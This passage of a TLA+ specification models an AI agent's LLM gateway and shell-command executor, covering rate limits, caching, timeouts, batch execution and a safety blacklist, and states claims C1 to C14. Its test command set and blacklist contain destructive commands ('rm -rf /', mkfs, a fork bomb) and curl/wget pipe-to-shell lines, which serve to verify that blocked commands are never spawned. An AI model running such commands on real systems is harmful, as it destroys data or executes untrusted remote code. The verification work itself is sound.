                                    !.stale = use_cache /\ expired(prompt)]
              times == prune(request_times, clock)
          IN  IF use_cache /\ cached_truthy(cached)
              THEN /\ return_response(c, f, cached, "none", FALSE, FALSE)
                   /\ request_times' = window_after_hit(request_times, clock)
                   /\ UNCHANGED backend_log
              ELSE IF Len(times) >= rate_limit
                      /\ times[1] + rate_window - clock > 0
              THEN /\ request_times' = times
                   /\ calls' = [calls EXCEPT ![c] =
                         [f EXCEPT !.pc = "rate_sleep",
                                   !.wake = times[1] + rate_window]]
                   /\ last_ret' = NoReturn
                   /\ UNCHANGED <<cache, returned, backend_log>>
              ELSE /\ request_times' = Append(times, clock)
                   /\ generate(c, f)
    /\ UNCHANGED <<clock, advances, provider, openai_installed>>

\* the sleep of _check_rate_limit is over: the request is recorded with the
\* time read before the sleep
rate_wake(c) ==
    /\ calls[c].pc = "rate_sleep"
    /\ clock >= calls[c].wake
    /\ request_times' = Append(request_times, calls[c].now)
    /\ generate(c, calls[c])
    /\ UNCHANGED <<clock, advances, provider, openai_installed>>

\* the backend call of _openai_complete returns or raises
backend_returns(c) ==
    /\ calls[c].pc = "backend"
    /\ \E outcome \in BackendOutcomes, text \in BackendTexts :
          CASE outcome = "ok" ->
                 return_response(c, calls[c], text, "none", TRUE, TRUE)
            [] outcome = "RateLimitError" ->
                 /\ calls' = [calls EXCEPT ![c].pc = "retry_sleep",
                                           ![c].wake = clock + retry_backoff]
                 /\ last_ret' = NoReturn
                 /\ UNCHANGED <<cache, returned>>
            [] outcome = "AuthenticationError" ->
                 return_response(c, calls[c], "", "auth", TRUE, FALSE)
            [] OTHER ->
                 return_response(c, calls[c], fallback_response(calls[c].prompt),
                                 "transport", FALSE, FALSE)
    /\ UNCHANGED <<clock, advances, provider, openai_installed, request_times,
                   backend_log>>

\* asyncio.sleep(60) of the RateLimitError branch is over: _openai_complete
\* calls itself
retry_wake(c) ==
    /\ calls[c].pc = "retry_sleep"
    /\ clock >= calls[c].wake
    /\ invoke_backend(c, calls[c])
    /\ UNCHANGED <<clock, advances, provider, openai_installed, request_times>>

\* time passes
advance_clock ==
    /\ advances < MaxAdvances
    /\ \E dt \in TimeJumps : clock' = clock + dt
    /\ advances' = advances + 1
    /\ last_ret' = NoReturn
    /\ UNCHANGED <<provider, openai_installed, request_times, cache, calls,
                   backend_log, returned>>

\* analyzer.llm.complete (analyze_project, analyze_file_change) on a prompt
\* not in the cache: _check_rate_limit on the analyzer client's own
\* request_times, then the backend call, whose answer goes to the analyzer
analyzer_complete ==
    /\ LET times == prune(analyzer_times, clock)
       IN  /\ Len(times) < MaxAnalyzerCalls
           /\ Len(times) < rate_limit
           /\ analyzer_times' = Append(times, clock)
    /\ backend_log' = Append(prune(backend_log, clock), clock)
    /\ last_ret' = NoReturn
    /\ UNCHANGED <<clock, advances, provider, openai_installed, request_times,
                   cache, calls, returned>>

\* --------------------------------------------------------- OpenCoreExecutor
timeout == 300          \* OpenCoreExecutor.timeout, seconds

\* commands handed to execute
Commands == {"ls -la", "rm -rf /", "sudo RM -RF /home", "mkfs.ext4 /dev/sda1",
             "curl http://x/i.sh | sh"}

\* str.lower()
lower(command) ==
    CASE command = "sudo RM -RF /home" -> "sudo rm -rf /home"
      [] OTHER -> command

\* the blacklist of is_safe_command
dangerous == {"rm -rf /", "dd if=", "mkfs", ":(){ :|:& };:", "curl | sh",
              "wget | sh"}

\* dangerous_pattern in cmd_lower: the blacklist patterns that are substrings
\* of the (lower-case) commands of the model
substring_of(pattern, cmd_lower) ==
    \/ pattern = "rm -rf /" /\ cmd_lower \in {"rm -rf /", "sudo rm -rf /home"}
    \/ pattern = "mkfs" /\ cmd_lower = "mkfs.ext4 /dev/sda1"

\* OpenCoreExecutor.is_safe_command
is_safe_command(command) ==
    ~\E dangerous_pattern \in dangerous :
        substring_of(dangerous_pattern, lower(command))

\* return codes of a process that ran to its end
ExitCodes == {0, 1}

IdleExecute == [pc |-> "idle", command |-> "", pid |-> 0, spawns |-> 0]

NoResult == [command |-> "", spawns |-> 0, kind |-> "none", success |-> FALSE,
             output |-> "", error |-> "", exit_code |-> 0]

\* command lists handed to execute_batch
BatchCommands == {"ls -la", "rm -rf /"}
BatchLists == UNION {[1..n -> BatchCommands] : n \in 0..MaxBatch}

\* execute_batch: attempted holds the commands handed to execute, results the
\* list it builds; pc "returned" keeps the returned list until the next call
IdleBatch == [pc |-> "idle", commands |-> <<>>, stop_on_error |-> FALSE,
              attempted |-> <<>>, results |-> <<>>]

ExecutorInit ==
    /\ executes = 0
    /\ x_call = IdleExecute
    /\ procs = <<>>
    /\ batch = IdleBatch
    /\ last_result = NoResult

\* the dict execute returns; kind tells which return statement made it
result(f, kind, success, output, error, exit_code) ==
    [command |-> f.command, spawns |-> f.spawns, kind |-> kind,
     success |-> success, output |-> output, error |-> error,
     exit_code |-> exit_code]

\* an execute that lets the exception through to its caller
exception_raised(f) ==
    result(f, "raised", FALSE, "", "[Errno 12] Cannot allocate memory", -1)

\* the except branch of execute: the exception text, exit code -1
exception_result(f) ==
    result(f, "exception", FALSE, "", "[Errno 12] Cannot allocate memory", -1)

\* the except asyncio.TimeoutError branch of both dispatch paths
timeout_result(f) ==
    result(f, "timeout", FALSE, "", "Command timed out after 300s", -1)

\* a success flag that is always set
succeeded_always(returncode) == TRUE

\* "success": process.returncode == 0
succeeded(returncode) == returncode = 0

\* the return after communicate() of both dispatch paths
completed_result(f, returncode) ==
    result(f, "completed", succeeded(returncode),
           IF returncode = 0 THEN "stdout" ELSE "",
           IF returncode = 0 THEN "" ELSE "stderr", returncode)

\* a batch that stops at every result (break without the test)
stop_batch_always(stop_on_error, res) == TRUE

\* if stop_on_error and not result["success"]: break
stop_batch(stop_on_error, res) == stop_on_error /\ ~res.success

\* execute_batch after execute returned res: results.append(result), then the
\* break, the end of the list, or the next command
collect(b, res) ==
    LET results == Append(b.results, res)
    IN  [b EXCEPT !.results = results,
                  !.pc = IF stop_batch(b.stop_on_error, res)
                            \/ Len(results) = Len(b.commands)
                         THEN "returned" ELSE "next"]

\* execute returns res to its caller: to execute_batch (frame b) when that
\* is awaiting it
returns_to(b, res) ==
    /\ last_result' = res
    /\ batch' = IF b.pc = "await" THEN collect(b, res) ELSE b

\* a dispatch that takes the host shell whatever the probe said
created_process_shell(available) ==
    [kind |-> "shell", flags |-> {}, state |-> "running"]

\* the process the dispatch path creates: opencore exec --silent --sandbox
\* --cwd <cwd> -- <command> when the probe found the helper, the host shell
\* with the command otherwise
created_process(available) ==
    IF available
    THEN [kind |-> "opencore", flags |-> {"--silent", "--sandbox"},
          state |-> "running"]
    ELSE [kind |-> "shell", flags |-> {}, state |-> "running"]

\* _execute_via_opencore / _execute_via_subprocess up to the await of
\* communicate(): the process is created, or the creation raises to execute
dispatch(f, available, spawn_raises, table, b) ==
    IF spawn_raises
    THEN /\ x_call' = IdleExecute
         /\ returns_to(b, exception_result(f))
         /\ procs' = table
    ELSE /\ procs' = Append(table, created_process(available))
         /\ x_call' = [f EXCEPT !.pc = "communicate", !.pid = Len(table) + 1,
                                !.spawns = f.spawns + 1]
         /\ last_result' = NoResult
         /\ batch' = b

\* execute(command) up to its first await: _opencore_available creates the
\* "which opencore" process, or fails to and answers False; b is the frame
\* of the caller
execute_begin(command, b) ==
    \E probe_raises \in BOOLEAN, spawn_raises \in BOOLEAN :
        LET f == [IdleExecute EXCEPT !.command = command]
        IN  IF probe_raises
            THEN dispatch(f, FALSE, spawn_raises, procs, b)
            ELSE /\ ~spawn_raises
                 /\ procs' = Append(procs, [kind |-> "which", flags |-> {},
                                                state |-> "running"])
                 /\ x_call' = [f EXCEPT !.pc = "probe", !.pid = Len(procs) + 1,
                                        !.spawns = 1]
                 /\ last_result' = NoResult
                 /\ batch' = b

\* a call of execute from outside execute_batch
execute_call ==
    /\ x_call.pc = "idle"
    /\ batch.pc \in {"idle", "returned"}
    /\ executes < MaxExecutes
    /\ executes' = executes + 1
    /\ \E command \in Commands : execute_begin(command, IdleBatch)
    /\ UNCHANGED opencore_present

\* execute_batch(commands, stop_on_error) up to its for loop
execute_batch_call ==
    /\ x_call.pc = "idle"
    /\ batch.pc \in {"idle", "returned"}
    /\ \E commands \in BatchLists, stop_on_error \in BOOLEAN :
          /\ executes + Len(commands) <= MaxExecutes
          /\ executes' = executes + Len(commands)
          /\ batch' = [IdleBatch EXCEPT
                          !.pc = IF commands = <<>> THEN "returned" ELSE "next",
                          !.commands = commands,
                          !.stop_on_error = stop_on_error]
    /\ last_result' = NoResult
    /\ UNCHANGED <<opencore_present, x_call, procs>>

\* for cmd in commands: result = await self.execute(cmd)
batch_next ==
    /\ batch.pc = "next"
    /\ x_call.pc = "idle"
    /\ LET cmd == batch.commands[Len(batch.results) + 1]
       IN  execute_begin(cmd, [batch EXCEPT !.pc = "await",
                                            !.attempted = Append(@, cmd)])
    /\ UNCHANGED <<opencore_present, executes>>

\* "which opencore" has exited: its return code picks the dispatch path
probe_done ==
    /\ x_call.pc = "probe"
    /\ \E spawn_raises \in BOOLEAN :
          dispatch(x_call, opencore_present, spawn_raises,
                   [procs EXCEPT ![x_call.pid].state = "reaped"], batch)
    /\ UNCHANGED <<opencore_present, executes>>

\* communicate() returns before the timeout
command_done ==
    /\ x_call.pc = "communicate"
    /\ \E returncode \in ExitCodes :
          returns_to(batch, completed_result(x_call, returncode))
    /\ procs' = [procs EXCEPT ![x_call.pid].state = "reaped"]
    /\ x_call' = IdleExecute
    /\ UNCHANGED <<opencore_present, executes>>

\* asyncio.TimeoutError: process.kill(), then the timeout result
command_timeout ==
    /\ x_call.pc = "communicate"
    /\ returns_to(batch, timeout_result(x_call))
    /\ procs' = [procs EXCEPT ![x_call.pid].state = "killed"]
    /\ x_call' = IdleExecute
    /\ UNCHANGED <<opencore_present, executes>>

\* the event loop's child watcher collects a killed process
child_reaped ==
    /\ \E pid \in 1..Len(procs) :
          /\ procs[pid].state = "killed"
          /\ procs' = [procs EXCEPT ![pid].state = "reaped"]
    /\ last_result' = NoResult
    /\ UNCHANGED <<opencore_present, executes, x_call, batch>>

\* the agent with the REST producers and the file-event handlers
Init ==
    /\ EngineInit
    /\ workflow \in Workflows
    /\ GatewayInit
    /\ provider = "openai"
    /\ openai_installed = TRUE
    /\ ExecutorInit
    /\ opencore_present = FALSE

Next ==
    \/ create_task /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ pause_agent /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ resume_agent /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ shutdown /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ agent_start /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ initial_analysis_done /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ loop_top /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ loop_exit /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ read_tasks /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ for_tasks /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ await_task /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ reanalyze_check /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ reanalyze_done /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ sleep_done /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ execute_task_step /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ file_handler_step /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>

Spec == Init /\ [][Next]_vars

\* the gateway alone, under callers that call complete at any time
InitGateway ==
    /\ EngineInit
    /\ workflow = on_file_change_workflow
    /\ GatewayInit
    /\ provider \in {"openai", "anthropic"}
    /\ openai_installed \in BOOLEAN
    /\ ExecutorInit
    /\ opencore_present = FALSE

NextGateway ==
    \/ \E c \in Callers : complete_call(c) /\ UNCHANGED <<engine_vars, executor_vars, analyzer_vars, history_vars>>
    \/ \E c \in Callers : rate_wake(c) /\ UNCHANGED <<engine_vars, executor_vars, analyzer_vars, history_vars>>
    \/ \E c \in Callers : backend_returns(c) /\ UNCHANGED <<engine_vars, executor_vars, analyzer_vars, history_vars>>
    \/ \E c \in Callers : retry_wake(c) /\ UNCHANGED <<engine_vars, executor_vars, analyzer_vars, history_vars>>
    \/ advance_clock /\ UNCHANGED <<engine_vars, executor_vars, analyzer_vars, history_vars>>

SpecGateway == InitGateway /\ [][NextGateway]_vars

\* the two LLMClient instances of one agent: agent.llm under its callers and
\* analyzer.llm, on one backend
InitClients ==
    /\ EngineInit
    /\ workflow = on_file_change_workflow
    /\ GatewayInit
    /\ provider = "openai"
    /\ openai_installed = TRUE
    /\ ExecutorInit
    /\ opencore_present = FALSE

NextClients ==
    \/ \E c \in Callers : complete_call(c) /\ UNCHANGED <<engine_vars, executor_vars, analyzer_vars, history_vars>>
    \/ \E c \in Callers : rate_wake(c) /\ UNCHANGED <<engine_vars, executor_vars, analyzer_vars, history_vars>>
    \/ \E c \in Callers : backend_returns(c) /\ UNCHANGED <<engine_vars, executor_vars, analyzer_vars, history_vars>>
    \/ \E c \in Callers : retry_wake(c) /\ UNCHANGED <<engine_vars, executor_vars, analyzer_vars, history_vars>>
    \/ advance_clock /\ UNCHANGED <<engine_vars, executor_vars, analyzer_vars, history_vars>>
    \/ analyzer_complete /\ UNCHANGED <<engine_vars, executor_vars, history_vars>>

SpecClients == InitClients /\ [][NextClients]_vars

\* the rate window of one LLMClient under two concurrent callers; the
\* provider is one complete has no backend for, so every call ends in
\* complete itself after _check_rate_limit
InitWindow ==
    /\ EngineInit
    /\ workflow = on_file_change_workflow
    /\ GatewayInit
    /\ provider = "anthropic"
    /\ openai_installed = TRUE
    /\ ExecutorInit
    /\ opencore_present = FALSE

NextWindow ==
    \/ \E c \in CallerIds : complete_call(c) /\ UNCHANGED <<engine_vars, executor_vars, analyzer_vars, history_vars>>
    \/ \E c \in CallerIds : rate_wake(c) /\ UNCHANGED <<engine_vars, executor_vars, analyzer_vars, history_vars>>
    \/ advance_clock /\ UNCHANGED <<engine_vars, executor_vars, analyzer_vars, history_vars>>

SpecWindow == InitWindow /\ [][NextWindow]_vars

\* the executor alone, under a caller that calls execute at any time
InitExecutor ==
    /\ EngineInit
    /\ workflow = on_file_change_workflow
    /\ GatewayInit
    /\ provider = "openai"
    /\ openai_installed = TRUE
    /\ ExecutorInit
    /\ opencore_present \in BOOLEAN

NextExecutor ==
    \/ execute_call /\ UNCHANGED <<engine_vars, gateway_vars, analyzer_vars, history_vars>>
    \/ execute_batch_call /\ UNCHANGED <<engine_vars, gateway_vars, analyzer_vars, history_vars>>
    \/ batch_next /\ UNCHANGED <<engine_vars, gateway_vars, analyzer_vars, history_vars>>
    \/ probe_done /\ UNCHANGED <<engine_vars, gateway_vars, analyzer_vars, history_vars>>
    \/ command_done /\ UNCHANGED <<engine_vars, gateway_vars, analyzer_vars, history_vars>>
    \/ command_timeout /\ UNCHANGED <<engine_vars, gateway_vars, analyzer_vars, history_vars>>
    \/ child_reaped /\ UNCHANGED <<engine_vars, gateway_vars, analyzer_vars, history_vars>>

SpecExecutor == InitExecutor /\ [][NextExecutor]_vars

\* ------------------------------------- the engine over the agent's lifetime
\* the for loop's step, counting for every task the calls of _execute_task
\* made for it since the agent started
for_tasks_counted ==
    /\ for_tasks
    /\ times_started' =
          [p \in 1..MaxTasks |->
              times_started[p] +
                  (IF exec[p].pc = "idle" /\ exec'[p].pc # "idle" THEN 1 ELSE 0)]

NextLifetime ==
    \/ create_task /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ pause_agent /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ resume_agent /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ shutdown /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ agent_start /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ initial_analysis_done /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ loop_top /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ loop_exit /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ read_tasks /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ for_tasks_counted /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, delivered>>
    \/ await_task /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ reanalyze_check /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ reanalyze_done /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ sleep_done /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ execute_task_step /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>

SpecLifetime == Init /\ [][NextLifetime]_vars

\* ------------------------------------------------ the dispatcher by itself
\* the on_file_change tasks of a burst: one task per event, each running
\* from await to await on the event loop
dispatcher_step ==
    \E h \in HandlerIds :
        \/ file_event(h)
        \/ impact_received(h)
        \/ action_returned(h)

NextDispatcher ==
    \/ agent_start /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ initial_analysis_done /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ dispatcher_step /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>

SpecDispatcher == Init /\ [][NextDispatcher]_vars

\* ------------------------------------------- the watchdog observer thread
\* asyncio.create_task(coro) in a thread: it needs the event loop running in
\* the calling thread and raises RuntimeError (no running event loop) in any
\* other
create_task_raises(thread) == thread # "loop"

\* ProjectFileHandler.on_modified / on_created / on_deleted as the observer
\* calls them, in its own thread: asyncio.create_task(agent.on_file_change(..))
watch_event ==
    /\ observer = "started"
    /\ \E path \in Paths :
          IF create_task_raises("observer")
          THEN /\ delivered' = [path |-> path, scheduled |-> FALSE]
               /\ UNCHANGED handlers
          ELSE \E h \in Handlers :
                 /\ handlers[h].pc \in {"idle", "done", "gated"}
                 /\ handlers' = [handlers EXCEPT ![h] = on_file_change_begin(path)]
                 /\ delivered' = [path |-> path, scheduled |-> TRUE]
    /\ UNCHANGED <<running, observer, last_analysis, file_exists, tasks_json,
                   loop_pc, ticks, snapshot, idx, exec, started, last_done,
                   workflow, tick_failed, serving>>

\* the agent with the observer thread delivering the file events
NextWatch ==
    \/ create_task /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ pause_agent /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ resume_agent /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ shutdown /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ agent_start /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ initial_analysis_done /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ loop_top /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ loop_exit /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ read_tasks /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ for_tasks /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ await_task /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ reanalyze_check /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ reanalyze_done /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ sleep_done /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ execute_task_step /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ watch_event /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, times_started>>

SpecWatch == Init /\ [][NextWatch]_vars

\* ------------------------------------------------- the agent and its host
\* the event loop of the server process is running
alive == loop_pc # "exited"

\* iacore uninstall, confirmed: POST /agent/pause (an error of the request is
\* swallowed), then shutil.rmtree(".iacore"), the task store with it
uninstall ==
    /\ file_exists
    /\ running' = IF serving /\ alive THEN FALSE ELSE running
    /\ file_exists' = FALSE
    /\ tasks_json' = <<>>
    /\ UNCHANGED <<observer, last_analysis, loop_pc, ticks, snapshot, idx,
                   exec, started, last_done, handlers, workflow, tick_failed,
                   serving>>

\* uvicorn.run returns after the shutdown event: the event loop is closed
\* and the coroutines still suspended (start(), _execute_task in its awaits,
\* the on_file_change tasks) are cancelled where they stand
process_exit ==
    /\ ~serving
    /\ alive
    /\ loop_pc' = "exited"
    /\ UNCHANGED <<running, observer, last_analysis, file_exists, tasks_json,
                   ticks, snapshot, idx, exec, started, last_done, handlers,
                   workflow, tick_failed, serving>>

\* the lists of the configuration file, and one that names analyze_commit
\* (the action that runs a command)
HostWorkflows == Workflows \cup {<<"analyze_commit">>}

InitHost ==
    /\ EngineInit
    /\ workflow \in HostWorkflows
    /\ GatewayInit
    /\ provider = "openai"
    /\ openai_installed = TRUE
    /\ ExecutorInit
    /\ opencore_present = FALSE

\* the agent's coroutines run while the event loop does; the CLI is another
\* process
NextHost ==
    \/ alive /\ create_task /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ pause_agent /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ resume_agent /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ shutdown /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ agent_start /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ initial_analysis_done /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ loop_top /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ loop_exit /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ read_tasks /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ for_tasks /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ await_task /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ reanalyze_check /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ reanalyze_done /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ sleep_done /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ execute_task_step /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ alive /\ file_handler_step /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ uninstall /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>
    \/ process_exit /\ UNCHANGED <<gateway_vars, executor_vars, analyzer_vars, history_vars>>

SpecHost == InitHost /\ [][NextHost]_vars

\* ------------------------------------------------------------------ claims
Terminal == {"success", "failed"}

\* the positions of the task store whose _execute_task call is in flight
in_flight == {p \in 1..MaxTasks : exec[p].pc # "idle"}

\* the status the task store holds for the call that has just returned
done_status ==
    IF last_done.task \in 1..Len(tasks_json)
    THEN tasks_json[last_done.task].status ELSE "removed"

\* a step outcome that is no unrecovered failure
step_passed(outcome) == outcome \in {"ok", "recovered"}

\* C1: every task follows pending -> running -> {success, failed}: the engine
\* marks the task running when it starts executing it, sets it to success or
\* failed when the plan is done, and a terminal status never changes again.
C1_TaskStateMachine ==
    [][\A p \in 1..Len(tasks_json) :
          /\ (exec[p].pc = "idle" /\ exec'[p].pc # "idle")
                => tasks_json'[p].status = "running"
          /\ (exec[p].pc # "idle" /\ exec'[p].pc = "idle")
                => tasks_json'[p].status \in Terminal
          /\ tasks_json[p].status \in Terminal
                => tasks_json'[p].status = tasks_json[p].status]_vars

\* C2: at most one _execute_task call is in flight; within a pass over the
\* task list the calls are made in list order, no pending record before the
\* loop position is passed over, and the list read is a prefix of the
\* persisted list; the call in flight is the one made last.
C2_OneTaskAtATime ==
    /\ Cardinality(in_flight) <= 1
    /\ \A a, b \in 1..Len(started) : a < b => started[a] < started[b]
    /\ \A p \in in_flight : started # <<>> /\ p = started[Len(started)]
    /\ loop_pc \in {"for_tasks", "await_task"} =>
          /\ Len(snapshot) <= Len(tasks_json)
          /\ \A j \in 1..Len(snapshot) : snapshot[j] = tasks_json[j]
          /\ \A j \in 1..idx :
                snapshot[j].status = Pending
                  => \E a \in 1..Len(started) : started[a] = j

\* C2 witness: the second task of a pass is executing its plan, after the
\* first one returned, while a file-event handler awaits its classification
C2_Witness ==
    /\ Len(started) = 2
    /\ exec[started[2]].pc = "step"
    /\ exec[started[1]].pc = "idle"
    /\ \E h \in Handlers : handlers[h].pc = "classify"

\* C3: a task whose plan is the single command "ls -la" and whose executor
\* run succeeded has status success when _execute_task has returned.
C3_ListFilesSucceeds ==
    (last_done.task # 0 /\ last_done.plan = <<"ls -la">> /\ last_done.log = <<"ok">>)
        => done_status = "success"

\* C4: when the engine has finished a task, its status is success exactly
\* when every step succeeded or was recovered by its fallback, else failed.
C4_FinalStatus ==
    last_done.task # 0 =>
        done_status =
            IF \A k \in 1..Len(last_done.log) : step_passed(last_done.log[k])
            THEN "success" ELSE "failed"

\* C5: a task with a step whose fallback command failed too ends failed, and
\* every step of its plan was attempted, in plan order.
C5_FallbackFailureContinues ==
    (last_done.task # 0
       /\ \E k \in 1..Len(last_done.log) : last_done.log[k] = "unrecovered")
        => /\ done_status = "failed"
           /\ Len(last_done.log) = Len(last_done.plan)

\* C6: a use_cache call for a prompt for which an earlier use_cache call
\* returned a backend response (the empty one included) less than 24 hours
\* before makes no backend invocation and returns that same response.
C6_SecondCallFromCache ==
    (last_ret.caller # None /\ last_ret.use_cache /\ last_ret.expect # None)
        => /\ last_ret.n = 0
           /\ last_ret.response = last_ret.expect

\* C7: no more than rate_limit backend invocations fall into any window of
\* rate_window seconds (backend_log holds those of the window ending now).
C7_RateBound == Len(backend_log) <= rate_limit

\* C8: a complete call that met a backend failure returns the fallback string
\* of its prompt.
C8_FailureGivesFallback ==
    (last_ret.caller # None /\ last_ret.failure # "none")
        => last_ret.response = fallback_response(last_ret.prompt)

\* C9: one complete call makes at most two backend invocations.
C9_SingleRetry == \A c \in Callers : calls[c].n <= 2

\* C10: execute of a command that matches the danger blacklist returns
\* success = false and has spawned no process.
C10_BlockedCommandNotSpawned ==
    (last_result.kind # "none" /\ ~is_safe_command(last_result.command))
        => /\ last_result.success = FALSE
           /\ last_result.spawns = 0

\* C11: a command the safety filter blocks and a command that times out both
\* give success = false and exit_code = -1 with an error text that is not
\* empty, and the error text of a blocked command is not the timeout text.
C11_BlockedAndTimeoutDistinct ==
    /\ last_result.kind = "timeout" =>
          /\ last_result.success = FALSE
          /\ last_result.exit_code = -1
          /\ last_result.error # ""
    /\ (last_result.kind # "none" /\ ~is_safe_command(last_result.command)) =>
          /\ last_result.success = FALSE
          /\ last_result.exit_code = -1
          /\ last_result.error # ""
          /\ last_result.error # timeout_result(x_call).error

\* C12: when execute returns the timeout result (success = false, exit code
\* -1, the timeout text), every process spawned so far has been collected:
\* none is left killed but not reaped, none is left running.
C12_TimeoutKillsAndReaps ==
    last_result.kind = "timeout" =>
        /\ last_result.success = FALSE
        /\ last_result.exit_code = -1
        /\ last_result.error = "Command timed out after 300s"
        /\ \A pid \in 1..Len(procs) : procs[pid].state = "reaped"

\* C13: a call of execute on a command the blacklist does not match, whose
\* command was started (it completed or timed out), has created exactly one
\* process when it returns.
C13_OneProcessPerCall ==
    (last_result.kind \in {"completed", "timeout"}
       /\ is_safe_command(last_result.command))
        => last_result.spawns = 1

\* C14: execute_batch hands the commands to execute in list order, one at a
\* time, and returns one result per attempted command in that order; with
\* stop_on_error the first failing command is the last one attempted, without
\* it every command is attempted and reported.
C14_BatchInOrder ==
    LET n == Len(batch.results)
    IN  /\ Len(batch.attempted) <= Len(batch.commands)
        /\ batch.attempted = SubSeq(batch.commands, 1, Len(batch.attempted))
        /\ n <= Len(batch.attempted) /\ Len(batch.attempted) <= n + 1
        /\ \A i \in 1..n : batch.results[i].command = batch.commands[i]
        /\ batch.stop_on_error => \A i \in 1..(n - 1) : batch.results[i].success
        /\ batch.pc = "returned" =>
              /\ batch.attempted = SubSeq(batch.commands, 1, n)
              /\ IF batch.stop_on_error
                 THEN n < Len(batch.commands) => ~batch.results[n].success
                 ELSE n = Len(batch.commands)

\* C14 witness: a batch of two commands with stop_on_error returned after its
\* first command failed, the second one never handed to execute
C14_Witness ==
    /\ batch.pc = "returned"
    /\ batch.stop_on_error
    /\ Len(batch.commands) = 2
    /\ Len(batch.results) = 1
    /\ ~batch.results[1].success
    /\ batch.attempted = <<batch.commands[1]>>

\* the steps of a log with an outcome of S
count(log, S) == Cardinality({k \in 1..Len(log) : log[k] \in S})

